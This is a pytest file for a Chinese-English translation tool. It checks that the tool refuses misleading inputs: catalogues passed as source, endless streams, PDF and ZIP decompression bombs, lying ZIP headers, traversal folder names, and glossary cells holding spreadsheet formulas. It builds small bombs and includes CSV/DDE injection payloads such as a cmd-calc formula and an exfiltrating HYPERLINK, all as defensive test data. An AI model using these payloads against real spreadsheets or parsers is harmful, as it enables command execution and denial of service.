"""Inputs that are not what they claim (issue 11, items 7, 11, 12, 13, 14).

A translation file given as the source, sources that never end, archives and
PDFs that expand a thousandfold, spreadsheet formulas in the glossary, model
archives whose folder could not be a package. Each is refused with one line and
exit 2 (``glossary check``: exit 1, findings), quickly, and nothing is written.
The bombs are built here, small: the limits scale with ``--max-size``, so a test
can use ``--max-size 1M`` and a few megabytes of zeros.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
import struct
import threading
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from cliassert import one_line_error

from bilingual.glossary import COLUMNS

REPO_ROOT = Path(__file__).resolve().parent.parent
SHANGHAI = REPO_ROOT / "translations" / "shanghai-port-2025" / "source.zh.txt"
SHIPPED_PO = REPO_ROOT / "translations" / "shanghai-port-2025" / "shanghai-port-2025.en.po"
GLOSSARY = REPO_ROOT / "glossary"


def tree(folder: Path) -> dict[str, bytes | None]:
    return {p.relative_to(folder).as_posix(): (p.read_bytes() if p.is_file() and not p.is_symlink() else None)
            for p in sorted(folder.rglob("*")) if not stat.S_ISCHR(p.lstat().st_mode)}


@pytest.fixture
def work(tmp_path) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    shutil.copy(SHIPPED_PO, folder / "doc.en.po")
    shutil.copy(SHANGHAI, folder / "source.zh.txt")
    return folder


def translate(run_cli, folder: Path, source, *extra):
    return run_cli(["translate", source, "--engine", "none", "--name", "shanghai-port-2025",
                    "-o", folder / "doc.en.po", "-q", *extra], cwd=REPO_ROOT)


# --------------------------------------------------------------------------- 7: a catalogue as SOURCE


def _mo_file(path: Path) -> Path:
    """A minimal little-endian GNU MO file (magic 0x950412de, one empty entry)."""
    header = struct.pack("<7I", 0x950412DE, 0, 1, 28, 36, 0, 0)
    path.write_bytes(header + struct.pack("<2I", 0, 44) + struct.pack("<2I", 0, 45) + b"\0\0")
    return path


@pytest.mark.parametrize(
    ("make", "problem"),
    [
        (lambda w: w / "doc.en.po", "is a PO/POT translation file, not a source document"),
        (lambda w: _copy_as(w / "doc.en.po", w / "looks-like-a-source.zh.txt"), "is a PO/POT translation file"),
        (lambda w: _pot(w / "template.pot"), "is a PO/POT translation file"),
        (lambda w: _mo_file(w / "doc.mo"), "is a compiled MO catalogue"),
        (lambda w: _tmx(w, "memory.tmx"), "is a TMX translation memory, not a source document; use it with --tm"),
        (lambda w: _tmx(w, "memory.xml", bom=True), "is a TMX translation memory"),
    ],
    ids=["po", "po-named-txt", "pot", "mo", "tmx", "tmx-with-bom-and-doctype"],
)
def test_a_translation_file_given_as_source_is_refused(run_cli, work, make, problem):
    source = make(work)
    target = work / "out.en.po"
    before = tree(work)
    result = run_cli(["translate", source, "--engine", "none", "-o", target])
    one_line_error(result, source, problem)
    assert tree(work) == before and not target.exists()


def test_translate_the_po_onto_itself_is_refused(run_cli, work):
    before = tree(work)
    result = run_cli(["translate", "doc.en.po", "--engine", "none", "--glossary", GLOSSARY, "-o", "doc.en.po"],
                     cwd=work)
    one_line_error(result, "doc.en.po", "refusing to write over it")
    assert tree(work) == before


def _copy_as(source: Path, target: Path) -> Path:
    shutil.copy(source, target)
    return target


def _pot(path: Path) -> Path:
    path.write_text('# template\nmsgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n'
                    'msgctxt "notice.title"\nmsgid "关于印发的通知"\nmsgstr ""\n', encoding="utf-8")
    return path


def _tmx(folder: Path, name: str, *, bom: bool = False) -> Path:
    text = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n<tmx version="1.4"><header '
            'srclang="zh-CN" datatype="plaintext" segtype="sentence" adminlang="en" o-tmf="x" creationtool="x" '
            'creationtoolversion="1"/><body><tu><tuv xml:lang="zh-CN"><seg>上海海关</seg></tuv>'
            '<tuv xml:lang="en"><seg>Shanghai Customs</seg></tuv></tu></body></tmx>\n')
    path = folder / name
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    return path


# --------------------------------------------------------------------------- 11: endless and huge sources


def test_an_endless_character_device_is_read_only_up_to_the_limit(run_cli, work):
    zero = work / "zero"
    try:
        os.mknod(zero, stat.S_IFCHR | 0o444, os.makedev(1, 5))  # /dev/zero's device, in the test folder
    except PermissionError:
        pytest.skip("cannot make device nodes here")
    before = tree(work)
    started = time.monotonic()
    result = translate(run_cli, work, zero)
    one_line_error(result, zero, "goes on, over the input size limit of 50 MB", "--max-size")
    assert time.monotonic() - started < 60
    assert tree(work) == before
    small = translate(run_cli, work, zero, "--max-size", "1M")
    one_line_error(small, zero, "over the input size limit of 1 MB")


def test_an_endless_fifo_is_read_only_up_to_the_limit(run_cli, work):
    fifo = work / "endless"
    os.mkfifo(fifo)

    def writer():
        try:
            with open(fifo, "wb") as out:
                while True:
                    out.write("上海海关。".encode() * 10000)
        except (BrokenPipeError, OSError):
            pass  # the reader stopped at its limit

    thread = threading.Thread(target=writer, daemon=True)
    thread.start()
    result = translate(run_cli, work, fifo, "--max-size", "2M")
    one_line_error(result, fifo, "goes on, over the input size limit of 2 MB")
    thread.join(30)
    assert not thread.is_alive()


def test_a_huge_file_is_refused_before_it_is_read(run_cli, work):
    huge = work / "huge.zh.txt"
    with open(huge, "wb") as out:
        out.truncate(60 << 20)  # sparse: 60 MB that take no disk and would take a second to read
    one_line_error(translate(run_cli, work, huge), huge, "is 60 MB, over the input size limit of 50 MB")
    one_line_error(run_cli(["check", huge]), huge, "is 60 MB, over the input size limit")
    passed_on = translate(run_cli, work, huge, "--max-size", "100M")  # the limit is the user's to raise
    assert "size limit" not in passed_on.stderr and passed_on.returncode == 2  # (60 MB of NULs is no text)
    env_limit = run_cli(["check", huge], env={"BILINGUAL_MAX_SIZE": "70M"})
    assert "size limit" not in env_limit.stderr


# --------------------------------------------------------------------------- 12: decompression bombs


def _pdf(content: bytes, *, compress: bool = True) -> bytes:
    """A one-page PDF whose page content is ``content`` (Helvetica as /F1), with a correct xref table."""
    stream = zlib.compress(content, 9) if compress else content
    filters = b" /Filter /FlateDecode" if compress else b""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d%s >>\nstream\n" % (len(stream), filters) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def test_pdf_stream_bomb_is_refused_quickly(run_cli, work):
    bomb = work / "bomb.pdf"
    bomb.write_bytes(_pdf(b"BT /F1 12 Tf 72 720 Td (x) Tj ET\n" + b" " * (8 << 20)))  # 8 MB in ~8 KB
    assert bomb.stat().st_size < 64 << 10
    before = tree(work)
    result = translate(run_cli, work, bomb, "--max-size", "1M")
    one_line_error(result, bomb, "has a PDF stream that expands beyond 1 MB", "decompression bomb")
    assert tree(work) == before


def test_pdf_page_drawing_too_many_characters_is_refused(run_cli, work):
    bomb = work / "glyphs.pdf"
    bomb.write_bytes(_pdf(b"BT /F1 1 Tf 10 10 Td (" + b"a" * 25_000 + b") Tj ET"))
    result = translate(run_cli, work, bomb, "--max-size", "1M")
    one_line_error(result, bomb, "has a page that draws more than 20000 characters")


def test_pdf_limits_leave_a_real_pdf_alone(tmp_path):
    """The same extraction, bounded, on an ordinary PDF: the bounds change nothing."""
    from bilingual.ingest.pdf import extract_pdf

    page = b"BT /F1 12 Tf 72 720 Td (Shanghai Customs 2025) Tj ET"
    text, _ = extract_pdf(_pdf(page), str(tmp_path / "ok.pdf"))
    assert text.strip() == "Shanghai Customs 2025"
    import pdfminer.pdftypes

    assert pdfminer.pdftypes.zlib is zlib  # the bounded decoders are put back afterwards


def _docx(path: Path, padding: int) -> Path:
    body = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>上海海关</w:t></w:r></w:p>').encode()
    body += b" " * padding + b"</w:body></w:document>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
                         '.org/package/2006/content-types"/>')
        archive.writestr("word/document.xml", body)
    return path


@pytest.mark.parametrize(
    ("padding", "extra", "problem"),
    [
        (6 << 20, ["--max-size", "1M"], "expands to 6.0 MB, over the limit of 4 MB"),
        (3 << 20, [], "refused as a ZIP bomb"),
    ],
    ids=["over-the-budget", "ratio"],
)
def test_docx_bomb_is_refused_before_python_docx_opens_it(run_cli, work, padding, extra, problem):
    bomb = _docx(work / "bomb.docx", padding)
    assert bomb.stat().st_size < 64 << 10
    result = translate(run_cli, work, bomb, *extra)
    one_line_error(result, bomb, problem)


# --------------------------------------------------------------------------- 12, 14: model archives

TOP = "translate-zh_en-0_0_1-tiny"


def _repack(source: Path, target: Path, *, top: str | None = None, extra=()) -> Path:
    """Copy the tiny package, deflated, optionally under another top folder, with extra members."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            name = info.filename if top is None else top + info.filename[len(TOP):]
            out.writestr(zipfile.ZipInfo(name, date_time=info.date_time), src.read(info),
                         compress_type=zipfile.ZIP_DEFLATED)
        for name, data in extra:
            out.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return target


def _install(run_cli, package: Path, packages: Path):
    return run_cli(["models", "install", "--from", package], env={"ARGOS_PACKAGES_DIR": str(packages)})


@pytest.fixture
def packages(tmp_path) -> Path:
    folder = tmp_path / "packages"
    folder.mkdir()
    return folder


def test_model_archive_bomb_is_refused_before_extracting(run_cli, argos_package, packages, tmp_path):
    bomb = _repack(argos_package, tmp_path / "bomb.argosmodel", extra=[(f"{TOP}/model/padding.bin", bytes(64 << 20))])
    assert bomb.stat().st_size < 2 << 20  # 0.6 MB of model + 64 MB of zeros in ~64 KB
    result = _install(run_cli, bomb, packages)
    one_line_error(result, bomb, "expands", "refused as a ZIP bomb before anything is extracted")
    assert list(packages.iterdir()) == []


def test_a_member_larger_than_it_declares_is_never_written_past_its_size(run_cli, argos_package, packages, tmp_path):
    liar = _repack(argos_package, tmp_path / "liar.argosmodel", extra=[(f"{TOP}/model/extra.bin", bytes(1 << 20))])
    data = bytearray(liar.read_bytes())
    name = f"{TOP}/model/extra.bin".encode()
    central = data.index(b"PK\x01\x02")  # the first central directory entry
    while True:  # find this member's central directory entry and declare 100 bytes instead of 1 MB
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46:central + 46 + name_length] == name:
            struct.pack_into("<I", data, central + 24, 100)
            break
        extra_length, comment_length = struct.unpack_from("<HH", data, central + 30)
        central += 46 + name_length + extra_length + comment_length
    liar.write_bytes(bytes(data))
    result = _install(run_cli, liar, packages)
    one_line_error(result, liar, "corrupt zip archive")
    assert [p.name for p in packages.iterdir() if p.is_dir()] == []  # nothing extracted is left


@pytest.mark.parametrize(
    ("top", "problem"),
    [
        (".hidden", "is a hidden folder, which is never listed as a package"),
        ("bilingual-install.lock", "named like the install lock"),
        ("translate-zh_en.lock", "named like the install lock"),
        ("translate zh en", "not a plain folder name"),
        ("..", "'..' in path"),
    ],
    ids=["hidden", "install-lock", "lock-suffix", "space", "dotdot"],
)
def test_model_archive_folder_name_is_validated(run_cli, argos_package, packages, tmp_path, top, problem):
    package = _repack(argos_package, tmp_path / "renamed.argosmodel", top=top)
    result = _install(run_cli, package, packages)
    one_line_error(result, package, problem)
    assert list(packages.iterdir()) == []
    good = _install(run_cli, argos_package, packages)  # a refused archive leaves later installs working
    assert good.returncode == 0, good.stderr


# --------------------------------------------------------------------------- 13: spreadsheet formulas


FORMULA_ROWS = [
    ("上海海关甲", '=HYPERLINK("http://example.invalid/?"&A1,"click")', "organisation", "", "", "n", "s"),
    ("上海海关乙", "@SUM(1+1)", "organisation", "", "", "n", "s"),
    ("上海海关丙", "Shanghai Customs C", "organisation", "", "", "+86 21 0000", "s"),
    ("上海海关丁", "Shanghai Customs D", "organisation", "", "-1+cmd|' /C calc'!A0", "n", "s"),
    ("上海海关戊", "Shanghai\x00Customs", "organisation", "", "", "n", "s"),
    ("上海海关己", "Shanghai Customs F", "organisation", "", "", "\tnote", "s"),
]


@pytest.fixture
def bad_glossary(tmp_path) -> Path:
    folder = tmp_path / "glossary"
    shutil.copytree(GLOSSARY, folder)
    with open(folder / "general.csv", "a", encoding="utf-8", newline="") as out:
        csv.writer(out, lineterminator="\n").writerows(row + ("",) * (len(COLUMNS) - len(row)) for row in FORMULA_ROWS)
    return folder


def test_glossary_check_refuses_formula_and_control_cells(run_cli, bad_glossary):
    result = run_cli(["glossary", "check", "--glossary", bad_glossary, "-q"])
    assert result.returncode == 1, result.stderr
    unsafe = [line for line in result.stdout.splitlines() if "unsafe-cell" in line]
    assert len(unsafe) == len(FORMULA_ROWS), result.stdout
    assert any("U+0000" in line for line in unsafe) and any("runs as a formula" in line for line in unsafe)


def test_loading_a_glossary_with_a_formula_cell_refuses_the_run(run_cli, work, bad_glossary):
    before = tree(work)
    result = run_cli(["translate", SHANGHAI, "--engine", "none", "--glossary", bad_glossary,
                      "-o", work / "doc.en.po"])
    one_line_error(result, bad_glossary, "glossary has errors", "unsafe-cell")
    assert tree(work) == before


def test_every_csv_we_write_neutralises_formula_cells(capsys):
    from bilingual.cli.output import emit_table
    from bilingual.csvsafe import neutralise, restore
    from bilingual.glossary import Glossary, GlossaryTerm
    from bilingual.termbase import export_weblate_csv

    # a glossary that skipped the checks (built in code): the export still cannot carry a formula
    terms = [GlossaryTerm(zh="上海海关", en="@Shanghai Customs", kind="organisation", note="=1+1", source="-x")]
    rows = list(csv.reader(io.StringIO(export_weblate_csv(Glossary(terms)))))
    assert rows[1][2] == "'@Shanghai Customs" and rows[1][4].startswith("'=1+1")
    assert restore(rows[1][2]) == "@Shanghai Customs" and restore(neutralise("+1")) == "+1"
    assert neutralise("Shanghai") == "Shanghai" and restore("'quoted") == "'quoted"
    emit_table("", ["term", "count"], [["=cmd|'/C calc'!A0", 3], ["ok\tcell", 1]], quiet=True)
    assert capsys.readouterr().out.splitlines() == ["term\tcount", "'=cmd|'/C calc'!A0\t3", "ok cell\t1"]


def test_a_tbx_with_a_formula_term_is_not_imported(run_cli, tmp_path):
    tbx = tmp_path / "weblate.tbx"
    tbx.write_text('<?xml version="1.0" encoding="UTF-8"?><martif type="TBX" xml:lang="en"><text><body>'
                   '<termEntry id="t1"><langSet xml:lang="zh"><tig><term>上海海关</term></tig></langSet>'
                   '<langSet xml:lang="en"><tig><term>=HYPERLINK("http://x")</term></tig></langSet></termEntry>'
                   '</body></text></martif>', encoding="utf-8")
    result = run_cli(["glossary", "import", tbx, "-o", tmp_path / "imported.csv"])
    # warnings about defaults for a Weblate export may come first; the refusal is one error line
    errors = [line for line in result.stderr.splitlines() if line.startswith("bilingual: error:")]
    assert result.returncode == 2 and len(errors) == 1, result.stderr
    assert "runs as a formula" in errors[0] and not (tmp_path / "imported.csv").exists()
